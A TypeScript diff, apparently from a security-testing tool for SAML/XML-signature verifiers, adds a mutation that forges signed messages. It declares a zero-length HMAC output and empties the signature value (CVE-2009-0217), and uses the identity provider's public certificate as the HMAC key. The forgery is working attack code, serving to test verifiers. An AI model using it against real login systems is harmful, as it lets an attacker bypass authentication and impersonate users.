@@ -2,6 +2,7 @@
 
 import { X509Certificate } from 'node:crypto';
 import type { Mutation } from '../protocol/types.ts';
+import { edit, editInner } from './elements.ts';
 import { forgedWith } from './signatures.ts';
 
 /** The public bytes that a confused verifier may take as the HMAC key. */
@@ -38,4 +39,24 @@ export function hmacForged(hash: keyof typeof methods, form: PublicBytes): Mutat
     hmacKey: publicBytes(facts.idp.certificateBase64, form),
     keyInfo: 'none',
   }));
+}
+
+/** Forges the victim with an HMAC of which the message asks for no bit at all, so that any key fits (CVE-2009-0217). */
+export function hmacOfNoLength(): Mutation {
+  return {
+    ...forgedWith((facts) => ({
+      signatureMethod: methods.sha256,
+      hmacKey: publicBytes(facts.idp.certificateBase64, 'certificate-pem'),
+      keyInfo: 'none',
+    })),
+    afterSigning: (xml) => {
+      const length = '<HMACOutputLength xmlns="http://www.w3.org/2000/09/xmldsig#">0</HMACOutputLength>';
+      const asked = edit(xml, 'SignatureMethod', () => method(length));
+      return editInner(asked, 'SignatureValue', () => '');
+    },
+  };
+}
+
+function method(content: string): string {
+  return `<SignatureMethod xmlns="http://www.w3.org/2000/09/xmldsig#" Algorithm="${methods.sha256}">${content}</SignatureMethod>`;
 }
